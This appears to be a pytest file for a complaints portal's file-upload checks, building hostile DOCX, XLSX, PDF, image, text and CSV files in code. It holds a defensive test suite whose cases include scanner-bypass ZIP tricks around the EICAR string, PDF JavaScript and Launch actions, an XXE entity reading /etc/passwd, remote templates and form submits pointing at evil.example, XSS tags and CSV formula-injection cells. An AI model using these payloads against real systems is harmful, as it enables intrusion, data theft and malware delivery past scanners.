"""Hostile files (issue 16 items 1, 2 and 12): each is made here, in code, and sent through the upload service
(and one through the form), against the real clamd. EICAR is the only "virus"; nothing hostile is committed.

Every refusal says what is wrong and what to do, and nothing is stored: no Attachment row, no file on disk.
"""

import html
import io
import struct
import uuid
import zipfile
import zlib

import pytest
import yaml
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from complaints import filetypes, services
from complaints.forms import CSV_COLUMNS
from complaints.models import Attachment
from portal import clamd
from tests.factories import RepresentativeFactory
from tests.helpers import PDF_BYTES
from tests.plugins.services import SHIPPED_CLAMD_CONF, ClamdServer, eicar_bytes, shipped_clamd_options

pytestmark = pytest.mark.django_db

MB = 1024 * 1024


def image(fmt: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, fmt)
    return buffer.getvalue()


PNG = image("PNG")
JPEG = image("JPEG")
SVG_ICON = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3"/></svg>'
# A logo as Adobe Illustrator exports it: comment, DOCTYPE with internal entities.
SVG_LOGO = (
    b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In -->\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n'
    b'\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg version="1.1" xmlns="&ns_svg;"><rect/></svg>'
)

# The parts python-docx and openpyxl write (compared with files they made), with XML bodies cut short.
DOCX_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types/>',
    "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships/>',
    "docProps/core.xml": b"<cp:coreProperties/>",
    "docProps/app.xml": b"<Properties/>",
    "word/document.xml": b"<w:document><w:body><w:p/></w:body></w:document>",
    "word/_rels/document.xml.rels": b"<Relationships/>",
    "word/styles.xml": b"<w:styles/>" + b" " * 300_000,
    "word/settings.xml": b"<w:settings/>",
    "word/webSettings.xml": b"<w:webSettings/>",
    "word/fontTable.xml": b"<w:fonts/>",
    "word/theme/theme1.xml": b"<a:theme/>",
    "customXml/item1.xml": b"<b:Sources/>",
    "customXml/_rels/item1.xml.rels": b"<Relationships/>",
    "customXml/itemProps1.xml": b"<ds:datastoreItem/>",
    "word/numbering.xml": b"<w:numbering/>",
    "word/media/image1.png": PNG,
    "docProps/thumbnail.jpeg": JPEG,
}
XLSX_PARTS = {
    "docProps/app.xml": b"<Properties/>",
    "docProps/core.xml": b"<cp:coreProperties/>",
    "xl/theme/theme1.xml": b"<a:theme/>",
    "xl/worksheets/sheet1.xml": b"<worksheet/>",
    "xl/styles.xml": b"<styleSheet/>",
    "_rels/.rels": b"<Relationships/>",
    "xl/workbook.xml": b"<workbook/>",
    "xl/_rels/workbook.xml.rels": b"<Relationships/>",
    "[Content_Types].xml": b"<Types/>",
    "xl/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le").ljust(1200, b"\0"),
    "xl/drawings/vmlDrawing1.vml": b"<xml/>",
}


class Unseekable(io.RawIOBase):
    """A stream that cannot seek, so zipfile streams each part with a data descriptor (as LibreOffice does)."""

    def __init__(self) -> None:
        self.buffer = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:  # type: ignore[no-untyped-def,override]
        return self.buffer.write(data)


def office(parts: dict[str, bytes], *, streamed: bool = False, zip64: tuple[str, ...] = ()) -> bytes:
    """A .docx/.xlsx with these parts; ``zip64`` parts are written as zipfile's ZIP64 streamed entries."""
    target = Unseekable() if streamed else io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name in zip64:
                with archive.open(name, "w", force_zip64=True) as part:
                    part.write(data)
            else:
                archive.writestr(name, data)
    return (target.buffer if streamed else target).getvalue()


def docx(extra: dict[str, bytes] | None = None, **options) -> bytes:  # type: ignore[no-untyped-def]
    return office({**DOCX_PARTS, **(extra or {})}, **options)


def zipped(name: str, chunks) -> bytes:  # type: ignore[no-untyped-def]
    """A plain zip with one part written from pieces (200 MB of zeros cost a few hundred kB this way)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as part:
        for chunk in chunks:
            part.write(chunk)
    return buffer.getvalue()


def zeros_then_eicar(megabytes: int):  # type: ignore[no-untyped-def]
    block = b"\0" * MB
    for _ in range(megabytes):
        yield block
    yield eicar_bytes()


def deflated(chunks) -> bytes:  # type: ignore[no-untyped-def]
    compressor = zlib.compressobj(9)
    return b"".join(compressor.compress(chunk) for chunk in chunks) + compressor.flush()


def two_big_parts(megabytes: int) -> bytes:
    """A .docx whose two XML parts expand to ``megabytes`` each (each under the limit, together over it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in DOCX_PARTS.items():
            if name not in ("word/document.xml", "word/styles.xml"):
                archive.writestr(name, data)
        for name in ("word/document.xml", "word/styles.xml"):
            with archive.open(name, "w") as part:
                part.write(b"<w:document>")
                for _ in range(megabytes):
                    part.write(b" " * MB)
    return buffer.getvalue()


def patched_local_name(data: bytes) -> bytes:
    """The header in front of word/document.xml names another part than the directory does."""
    at = data.index(b"word/document.xml")  # the first occurrence is in the local header
    return data[:at] + b"word/documenX.xml" + data[at + len(b"word/document.xml") :]


def patched_local_crc(data: bytes) -> bytes:
    """The header in front of word/document.xml has another checksum than the directory."""
    at = data.index(b"word/document.xml") - 30
    assert data[at : at + 4] == b"PK\x03\x04"
    crc = struct.unpack_from("<I", data, at + 14)[0]
    return data[: at + 14] + struct.pack("<I", crc ^ 1) + data[at + 18 :]


def hidden_bytes_before_directory(data: bytes, hidden: bytes) -> bytes:
    """Bytes no part owns, slipped in before the directory (the end record updated to match)."""
    end = data.rindex(b"PK\x05\x06")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    data = data[:directory] + hidden + data[directory:]
    end += len(hidden)
    return data[: end + 16] + struct.pack("<I", directory + len(hidden)) + data[end + 20 :]


def overlapping_entry(data: bytes) -> bytes:
    """A second directory entry for the same bytes as word/document.xml, under another name."""
    end = data.rindex(b"PK\x05\x06")
    count, _size, directory = struct.unpack_from("<HII", data, end + 10)
    at = directory
    while data[at + 46 : at + 46 + 17] != b"word/document.xml":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + name_length + extra_length + comment_length
    entry = data[at : at + 46 + 17]
    twin = entry[:46] + b"word/documenY.xml"
    directory_bytes = data[directory:end] + twin
    record = data[end:]
    record = record[:8] + struct.pack("<HHII", count + 1, count + 1, len(directory_bytes), directory) + record[20:]
    return data[:directory] + directory_bytes + record


def lying_size(data: bytes) -> bytes:
    """word/styles.xml's headers say it holds 1 kB; it really holds 300 kB (the reader stops at 1 kB)."""
    real = len(DOCX_PARTS["word/styles.xml"])
    out = bytearray(data)
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := out.find(signature, at)) >= 0:
            name_length = struct.unpack_from("<H", out, at + (26 if signature == b"PK\x03\x04" else 28))[0]
            start = at + (30 if signature == b"PK\x03\x04" else 46)
            if out[start : start + name_length] == b"word/styles.xml":
                assert struct.unpack_from("<I", out, at + size_at)[0] == real
                struct.pack_into("<I", out, at + size_at, 1024)
            at += 4
    return bytes(out)


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    for number, content in enumerate(objects, start=1):
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    return body + b"trailer\n" + trailer + b"\n%%EOF\n"


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream"


def object_stream(text: bytes) -> bytes:
    """A compressed object stream, where PDF 1.5+ writers put most dictionaries."""
    return stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"9 0 " + text))


def hidden_in_object_stream(dictionary: bytes) -> bytes:
    """An object stream, written with ``dictionary``, holding only the short /JS key (looked for in object
    streams only, so it is found only when the stream is recognised and decompressed)."""
    return stream(dictionary, zlib.compress(b"9 0 << /JS 5 0 R >>"))


def lzw(data: bytes) -> bytes:
    """LZW as PDF writers encode it (9 to 12-bit codes, the code size growing one code early)."""
    table, width, codes, word = {bytes([value]): value for value in range(256)}, 9, [(256, 9)], b""
    for value in data:
        if word + bytes([value]) in table:
            word += bytes([value])
            continue
        codes.append((table[word], width))
        table[word + bytes([value])] = len(table) + 2
        if len(table) + 2 >= 1 << width and width < 12:
            width += 1
        word = bytes([value])
    codes += [(table[word], width), (257, width)]
    buffer, bits, out = 0, 0, bytearray()
    for code, size in codes:
        buffer, bits = buffer << size | code, bits + size
        while bits >= 8:
            bits -= 8
            out.append(buffer >> bits & 255)
    return bytes(out + (bytes([buffer << (8 - bits) & 255]) if bits else b""))


def pillow_pdf(mode: str) -> bytes:
    """A PDF as Pillow's PDF writer makes it (a real writer: JPEG or zlib pictures, no space after "obj")."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new(mode, (40, 30), "white").save(buffer, "PDF")
    return buffer.getvalue()


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
PRINT = "Print it to a new PDF"


def add(user, name: str, data: bytes) -> Attachment:  # type: ignore[no-untyped-def]
    return services.attachment_add_draft(user=user, draft_key=uuid.uuid4(), upload=SimpleUploadedFile(name, data))


@pytest.fixture
def user():  # type: ignore[no-untyped-def]
    return RepresentativeFactory().user


EMBEDDED = "has a file or object embedded in it"
INCONSISTENT = "table of contents does not match its contents"
ZIP64 = "large-file (ZIP64) format"

# (case, file name, bytes, what the message must say, what it must tell them to do)
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

HOSTILE = [
    # Issue 16 item 1, exactly as reported: clamd alone answers OK for it.
    ("zip64-streamed-eicar-in-media", "letter.docx", docx({"word/media/image2.png": PNG + eicar_bytes()},
     zip64=("word/media/image2.png",)), ZIP64, "save a new copy with Save As"),
    ("zip64-truly-streamed", "letter.docx", docx({"word/media/image2.png": PNG + eicar_bytes()}, streamed=True,
     zip64=("word/media/image2.png",)), ZIP64, "save a new copy with Save As"),
    ("zip64-small-xml-part", "letter.docx", docx(zip64=("word/document.xml",)), ZIP64, "Save As"),
    # Issue 16 item 2, exactly as reported: clamd alone answers OK for it.
    ("nested-zip-200mb-zeros-then-eicar", "letter.docx",
     lambda: docx({"word/media/inner.zip": zipped("data.bin", zeros_then_eicar(200))}), EMBEDDED, "on its own"),
    ("nested-zip-bomb", "claims.xlsx",
     office({**XLSX_PARTS, "xl/media/image1.png": zipped("x", zeros_then_eicar(30))}), EMBEDDED, "on its own"),
    ("nested-gzip", "letter.docx", docx({"word/media/image2.png": b"\x1f\x8b\x08" + b"\0" * 40}),
     EMBEDDED, "on its own"),
    ("nested-exe", "letter.docx", docx({"word/media/image2.emf": b"MZ\x90\x00" + b"\0" * 200}), EMBEDDED, "on its own"),
    ("nested-elf", "letter.docx", docx({"word/document.xml": b"\x7fELF" + b"\0" * 64}), EMBEDDED, "on its own"),
    ("ole-object-by-name", "letter.docx", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
     EMBEDDED, "on its own"),
    ("embedded-workbook-by-name", "letter.docx",
     docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": office(XLSX_PARTS)}), EMBEDDED, "on its own"),
    ("ole-object-by-content", "claims.xlsx",
     office({**XLSX_PARTS, "xl/media/image1.emf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504}), EMBEDDED,
     "on its own"),
    ("local-header-names-another-part", "letter.docx", patched_local_name(docx()), INCONSISTENT, "Save As"),
    ("local-header-other-checksum", "letter.docx", patched_local_crc(docx()), INCONSISTENT, "Save As"),
    ("hidden-bytes-between-parts", "letter.docx", hidden_bytes_before_directory(docx(), eicar_bytes()),
     INCONSISTENT, "Save As"),
    ("two-entries-one-part", "letter.docx", overlapping_entry(docx()), INCONSISTENT, "Save As"),
    ("data-in-front", "letter.docx", b"MZ" + b"\0" * 62 + docx(), "is not a DOCX file", "cannot be attached"),
    ("lying-size-header", "letter.docx", lying_size(docx()), INCONSISTENT, "Save As"),
    ("comment-after-end", "letter.docx", docx()[:-2] + struct.pack("<H", 17) + eicar_bytes()[:17], INCONSISTENT,
     "Save As"),
    ("media-not-an-image", "letter.docx", docx({"word/media/notes.bin": b"just some bytes"}), "not a real image",
     "insert the picture again"),
    ("svg-with-script", "letter.docx",
     docx({"word/media/image2.svg": SVG_ICON.replace(b"<circle", b"<script>alert(1)</script><circle")}),
     "not a real image", "insert the picture again"),
    ("svg-with-external-entity", "letter.docx", docx({"word/media/image2.svg": SVG_LOGO.replace(
     b'ns_svg "http', b'ns_svg SYSTEM "file:///etc/passwd" "http')}), "not a real image", "insert the picture again"),
    ("font-that-is-not", "letter.docx", docx({"word/fonts/font1.odttf": bytes(range(256)) * 2}),
     "something ordinary Word or Excel", "Save it again as a plain"),
    ("unknown-part", "letter.docx", docx({"word/run.js": b"alert(1)"}), "something ordinary Word or Excel",
     "Save it again as a plain"),
    ("xml-part-not-xml", "letter.docx", docx({"word/header1.xml": b"X5O!P%@AP"}), "something ordinary Word or Excel",
     "Save it again as a plain"),
    ("expands-too-much", "letter.docx", lambda: two_big_parts(60), "expands too much", "Split it"),
    # PDFs carrying something active, however it is written.
    ("pdf-javascript", "eob.pdf", pdf(b"<< /Type /Catalog /OpenAction 3 0 R >>", PAGES,
     b"<< /S /JavaScript /JS (app.alert(1)) >>"), "contains JavaScript", PRINT),
    ("pdf-js-key-only", "eob.pdf", pdf(CATALOG, PAGES, b"<< /JS 4 0 R >>"), "contains JavaScript", PRINT),
    ("pdf-escaped-name", "eob.pdf", pdf(CATALOG, PAGES, b"<< /S /J#61va#53cript /JS (x) >>"), "contains JavaScript",
     PRINT),
    ("pdf-javascript-in-object-stream", "eob.pdf",
     pdf(CATALOG, PAGES, object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")), "contains JavaScript", PRINT),
    ("pdf-escaped-in-object-stream", "eob.pdf", pdf(CATALOG, PAGES, object_stream(b"<< /S /#4Caunch /F (c.exe) >>")),
     "opens other programs", PRINT),
    ("pdf-launch", "eob.pdf", pdf(CATALOG, PAGES, b"<< /S /Launch /F (cmd.exe) >>"), "opens other programs", PRINT),
    ("pdf-remote-goto-network-share", "eob.pdf", pdf(CATALOG, PAGES, rb"<< /S /GoToR /F (\\\\host\\share\\x.pdf) >>"),
     "opens other programs or files", PRINT),
    ("pdf-embedded-file", "eob.pdf", pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>", PAGES,
     stream(b"/Type /EmbeddedFile", eicar_bytes()[:10])), "files attached inside it", "on its own"),
    ("pdf-file-attachment-annotation", "eob.pdf", pdf(CATALOG, PAGES, b"<< /Subtype /FileAttachment >>"),
     "files attached inside it", "on its own"),
    ("pdf-rich-media", "eob.pdf", pdf(CATALOG, PAGES, b"<< /Subtype /RichMedia >>"), "video, sound or Flash", PRINT),
    ("pdf-xfa-form", "form.pdf", pdf(b"<< /Type /Catalog /AcroForm << /XFA 3 0 R >> >>", PAGES, b"[]"),
     "dynamic (XFA) form", PRINT),
    ("pdf-html-polyglot", "eob.pdf", pdf(CATALOG, PAGES, stream(b"", b"<html><body><script>alert(1)</script>")),
     "also contains web page code", PRINT),
    ("pdf-svg-polyglot-after-eof", "eob.pdf", PDF_BYTES + b"<svg onload=alert(1)>", "also contains web page code",
     PRINT),
    ("pdf-object-stream-picture-filter", "eob.pdf",
     pdf(CATALOG, PAGES, stream(b"/Type /ObjStm /N 1 /First 4 /Filter /DCTDecode", b"\x80\x0b")),
     "in a way we cannot check", PRINT),
    ("pdf-javascript-in-lzw-object-stream", "eob.pdf", pdf(CATALOG, PAGES, stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", lzw(b"9 0 << /JS 5 0 R >>" * 100))), "contains JavaScript",
     PRINT),
    ("pdf-encrypted-object-stream", "eob.pdf", pdf(CATALOG, PAGES, b"<< /Filter /Standard /V 2 /R 3 /P -3904 >>",
     stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bytes(range(7, 250)))),
     "in a way we cannot check", "ask whoever sent it for an unprotected copy"),
    ("pdf-object-stream-bomb", "eob.pdf", lambda: pdf(CATALOG, PAGES, stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflated(zeros_then_eicar(101)))), "expands too much", PRINT),
    # Review: an object stream hidden from the check by how its dictionary is written.
    ("pdf-object-stream-type-escaped", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode")), "contains JavaScript", PRINT),
    ("pdf-object-stream-key-after-type", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /ObjStm /Xobj 1 /N 1 /First 4 /Filter /FlateDecode")), "contains JavaScript", PRINT),
    ("pdf-object-stream-filter-escaped", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter /#46lateDecode")), "contains JavaScript", PRINT),
    ("pdf-object-header-in-a-comment", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode % 7 0 obj <<\n")), "damaged or incomplete", "Save it again"),
    ("pdf-comment-before-stream-keyword", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode").replace(b">>\nstream", b">> % note\nstream")),
     "contains JavaScript", PRINT),
    ("pdf-type-given-twice", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /XObject /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")), "damaged or incomplete", "Save it again"),
    ("pdf-filter-in-another-object", "eob.pdf", pdf(CATALOG, PAGES, hidden_in_object_stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter 4 0 R"), b"/FlateDecode"), "uses a compression the portal cannot check",
     PRINT),
    ("pdf-unknown-filter", "eob.pdf", pdf(CATALOG, PAGES, stream(b"/Filter /BrotliDecode", b"\x0b\x02\x80")),
     "uses a compression the portal cannot check", PRINT),
    ("pdf-launch-in-page-content", "eob.pdf", pdf(CATALOG, PAGES, stream(b"/Filter /FlateDecode", zlib.compress(
     b"<< /S /Launch /F (cmd.exe) >>"))), "opens other programs", PRINT),
    ("pdf-data-after-eof", "eob.pdf", PDF_BYTES + b"more bytes a reader never shows\n",
     "has data after its end", PRINT),
    ("pdf-zip-after-eof", "eob.pdf", PDF_BYTES + zipped("x.exe", [b"MZ"]) + b"\n%%EOF\n",
     "an archive or a program hidden inside it", PRINT),
    ("pdf-stream-holding-a-zip", "eob.pdf", pdf(CATALOG, PAGES, stream(b"", zipped("x.bin", [eicar_bytes()]))),
     "an archive or a program hidden inside it", PRINT),
    ("pdf-compressed-stream-holding-a-zip", "eob.pdf", pdf(CATALOG, PAGES, stream(b"/Filter /FlateDecode",
     zlib.compress(b"q " + zipped("x.bin", [eicar_bytes()])))), "an archive or a program hidden inside it", PRINT),
    ("pdf-video-polyglot", "eob.pdf", pdf(CATALOG, PAGES, stream(b"", b"<video src=x onerror=alert(1)>")),
     "also contains web page code", PRINT),
    ("png-html-polyglot", "photo.png", PNG + b"<script src=//x></script>", "also contains web page code",
     "save it as a new image"),
    # Review: archives after a few harmless bytes, or after a picture's end.
    # Outside testing: a script in a custom XML part, a macro-enabled document named .docx, links fetched on opening.
    ("docx-script-in-custom-xml", "letter.docx", docx({"customXml/item1.xml":
     b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>'}),
     "web page code (a script)", "Save it again"),
    ("docx-script-with-a-prefix", "letter.docx", docx({"word/header1.xml": b"<w:hdr><h:script>x</h:script></w:hdr>"}),
     "web page code (a script)", "Save it again"),
    ("docx-declared-macro-enabled", "letter.docx", docx({"[Content_Types].xml": b'<Types><Override '
     b'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
     "contains macros", "Save it without them"),
    ("xlsx-external-workbook-link", "claims.xlsx", office({**XLSX_PARTS,
     "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "links to a file on another computer",
     "Save it as PDF"),
    ("docx-remote-template", "letter.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships><Relationship '
     b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}),
     "links to a file on another computer", "Save it as PDF"),
    ("docx-linked-picture", "letter.docx", docx({"word/_rels/document.xml.rels": b"<Relationships><Relationship "
     b"Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' "
     b"Target='file://host/share/a.png' TargetMode='External'/></Relationships>"}),
     "links to a file on another computer", "Save it as PDF"),
    # Review: what an XML reader reads, not what a pattern sees (">" inside a value, character references).
    ("docx-remote-template-gt-in-value", "letter.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships>'
     b'<Relationship Id="rId1" Type="REL/attachedTemplate" Target="http://evil.example/t.dotm?a>b" '
     b'TargetMode="External"/></Relationships>'.replace(b"REL/", REL)}), "links to a file on another computer",
     "Save it as PDF"),
    ("docx-remote-template-character-reference", "letter.docx", docx({"word/_rels/settings.xml.rels":
     b'<Relationships><Relationship Id="rId1" Type="REL/attachedTemplate" Target="\\\\host\\t.dotm" '
     b'TargetMode="&#69;xternal"/></Relationships>'.replace(b"REL/", REL)}), "links to a file on another computer",
     "Save it as PDF"),
    ("docx-macro-enabled-character-reference", "letter.docx", docx({"[Content_Types].xml": b'<Types><Override '
     b'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
     b"</Types>"}), "contains macros", "Save it without them"),
    ("docx-packaging-with-a-doctype", "letter.docx", docx({"_rels/.rels": b'<!DOCTYPE r [<!ENTITY e "x">]>'
     b"<Relationships/>"}), "something ordinary Word or Excel documents do not", "Save it again"),
    ("pdf-automatic-action-on-close", "eob.pdf",
     pdf(b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI (http://evil.example/) >> >> >>", PAGES),
     "runs actions by itself", PRINT),
    ("pdf-submit-form", "eob.pdf", pdf(CATALOG, PAGES, b"<< /S /SubmitForm /F (http://evil.example/) >>"),
     "runs actions by itself", PRINT),
    ("docx-bmp-then-zip", "letter.docx", docx({"word/media/image1.bmp": b"BM" + zipped("x.exe", [b"MZ"])}),
     EMBEDDED, "on its own"),
    ("docx-xml-then-zip", "letter.docx", docx({"word/header1.xml": b"<x/>" + zipped("x.exe", [b"MZ"])}),
     EMBEDDED, "on its own"),
    ("docx-png-then-zip", "letter.docx", docx({"word/media/image1.png": PNG + zipped("x.exe", [b"MZ"])}),
     EMBEDDED, "on its own"),
    ("docx-png-then-text", "letter.docx", docx({"word/media/image1.png": PNG + b"hidden text"}),
     "not a real image", "insert the picture again"),
    ("docx-xml-control-characters", "letter.docx", docx({"word/header1.xml": b"<w:hdr>\x01\x02</w:hdr>"}),
     "something ordinary Word or Excel", "Save it again as a plain"),
    ("png-then-zip", "photo.png", PNG + zipped("x.exe", [b"MZ"]), "other data hidden in it or after its end",
     "save it as a new image"),
    ("png-then-bytes", "photo.png", PNG + b"\0" * 40, "after its end", "take a screenshot of it"),
    ("jpeg-then-zip", "photo.jpg", JPEG + zipped("x.exe", [b"MZ"]), "after its end", "save it as a new image"),
    ("tiff-then-zip", "scan.tiff", image("TIFF") + zipped("x.exe", [b"MZ"]), "after its end",
     "save it as a new image"),
    # Text: the whole file is read, not only its first 64 kB.
    ("text-markup-after-64kb", "notes.txt", b"Call notes.\n" * 8000 + b"<script>alert(1)</script>\n",
     "web page or markup", "save the text file as PDF"),
    ("text-markup-across-a-read-boundary", "notes.txt", b"a" * (64 * 1024 - 3) + b"<iframe src=x>",
     "web page or markup", "Remove it"),
    ("csv-markup", "claims.csv", b"member,rin,notes\nPat,123456789,<img src=x onerror=alert(1)>\n",
     "web page or markup", "Remove it"),
    # Review: tags the old list did not know; each is refused in a text file.
    *[(f"text-tag-{number}", "notes.txt", b"Call notes.\n" + tag + b"\n", "web page or markup", "Remove it")
      for number, tag in enumerate((b"<video src=x onerror=alert(1)>", b"<details open ontoggle=alert(1)>",
      b"<input onfocus=alert(1) autofocus>", b"<input onfocus autofocus>", b"<form action=//evil.example>",
      b"<style>body{display:none}</style>", b"<link rel=stylesheet href=//x>", b"<base href=//evil.example/>",
      b"<base href>", b"<math><mtext>", b"<custom-tag onclick=alert(1)>", b"<!-- hidden -->"))],
    # Review: cells a spreadsheet runs (staff open CSV files in Excel).
    *[(f"csv-formula-{number}", "claims.csv", b"member,rin,notes\nPat,123456789," + cell + b"\n",
       "a cell or line starts with =, +, - or @", "put a ' before it")
      for number, cell in enumerate((b"=cmd|' /C calc'!A0", b'"=HYPERLINK(""http://x"",""Pay"")"', b'@HYPERLINK("http://x")',
      b"+cmd|' /C calc'!A0", b"-2+3+cmd|' /C calc'!A0", b'-HYPERLINK("http://x")', b' =WEBSERVICE("http://x")',
      "\uff1dHYPERLINK(1)".encode(), "\uff20HYPERLINK(1)".encode()))],
    # Outside testing: a formula after a byte-order mark, after a lone CR, in ;-separated data, and in UTF-16.
    ("csv-formula-after-bom", "claims.csv", b"\xef\xbb\xbf=HYPERLINK(\"http://x\")\n", "a cell or line starts with =",
     "put a ' before it"),
    ("csv-formula-after-cr", "claims.csv", b"member\rPat\r=cmd|' /C calc'!A0\r", "a cell or line starts with =",
     "put a ' before it"),
    ("csv-formula-semicolons", "claims.csv", b"member;rin\nPat;=cmd|' /C calc'!A0\n", "a cell or line starts with =",
     "put a ' before it"),
    # Review: a formula whose cell began in the piece read before (files are read 64 kB at a time).
    ("csv-formula-across-a-read-boundary", "claims.csv", b"a,b\n" * 15952 + b"\n=" + b" " * 2000
     + b'HYPERLINK("http://x","y")\n', "a cell or line starts with =", "put a ' before it"),
    ("csv-long-formula-across-a-read-boundary", "claims.csv", b"x" * (64 * 1024 - 5) + b"\n=1+" + b"1+" * 3000
     + b'HYPERLINK("http://x")\n', "a cell or line starts with =", "put a ' before it"),
    ("csv-formula-utf16", "claims.csv", "member,notes\nPat,=HYPERLINK(1)\n".encode("utf-16"),
     "a cell or line starts with =", "put a ' before it"),
    ("txt-formula", "notes.txt", b"Notes\tAmount\n=cmd|' /C calc'!A0\t1\n", "a cell or line starts with =, +, - or @",
     "put a ' before it"),
    ("text-binary-after-64kb", "notes.txt", b"Call notes.\n" * 8000 + b"\0\0MZ", "is not plain text",
     "Save it as text"),
    # Messages that say what to do (item 12).
    ("zip-named-pdf", "eob.pdf", zipped("eob.pdf", [PDF_BYTES]), "is not a PDF file: it is a ZIP archive",
     "attach the files inside one at a time"),
    ("old-word-file", "letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, "older Word or Excel file",
     "save it as .docx"),
    ("empty-pdf", "eob.pdf", b"", "the file is empty", "picked the right file"),
    ("empty-docx", "letter.docx", b"", "the file is empty", "picked the right file"),
    ("empty-xlsx", "claims.xlsx", b"", "the file is empty", "picked the right file"),
    ("empty-png", "photo.png", b"", "the file is empty", "picked the right file"),
    ("empty-csv", "claims.csv", b"", "the file is empty", "picked the right file"),
    ("empty-txt", "notes.txt", b"", "the file is empty", "picked the right file"),
    ("pdf-header-only", "eob.pdf", b"%PDF-1.7\n", "damaged or incomplete", "Save it again"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "name", "data", "what", "todo"), HOSTILE, ids=[case[0] for case in HOSTILE])
def test_hostile_files_are_refused_with_a_helpful_message_and_nothing_is_stored(
    user, private_files, case, name, data, what, todo
):
    data = data() if callable(data) else data  # the big ones are made only when their test runs
    with pytest.raises(ValidationError) as refused:
        add(user, name, data)
    message = " ".join(refused.value.messages)
    assert message.startswith(f"{name}: ") and what in message and todo in message, message
    assert "virus was found" not in message  # refused for what it is, before the scanner
    assert not Attachment.objects.exists()
    assert list(private_files.iterdir()) == []


def test_the_reported_zip64_bypass_is_refused_on_the_form(client, private_files):
    from tests.complaints.test_intake_views import form_data, key_of, screened
    from tests.helpers import sign_in

    sign_in(client, RepresentativeFactory().user)
    screened(client)
    key = key_of(client.get("/complaints/new/complaint/"))
    data = docx({"word/media/image2.png": PNG + eicar_bytes()}, zip64=("word/media/image2.png",))
    upload = SimpleUploadedFile("letter.docx", data)
    page = html.unescape(client.post("/complaints/new/complaint/", {**form_data(key), "attachments": upload}).text)
    assert "letter.docx: the document was saved in a large-file (ZIP64) format" in page
    assert not Attachment.objects.exists() and list(private_files.iterdir()) == []


GENUINE = [
    ("python-docx-like.docx", docx()),
    ("libreoffice-like.docx", docx(streamed=True)),
    ("with-icons.docx", docx({"word/media/image2.svg": SVG_ICON, "word/media/image3.gif": image("GIF"),
     "word/media/image4.svg": SVG_LOGO})),
    ("openpyxl-like.xlsx", office(XLSX_PARTS)),
    ("bmp-and-tiff.xlsx",
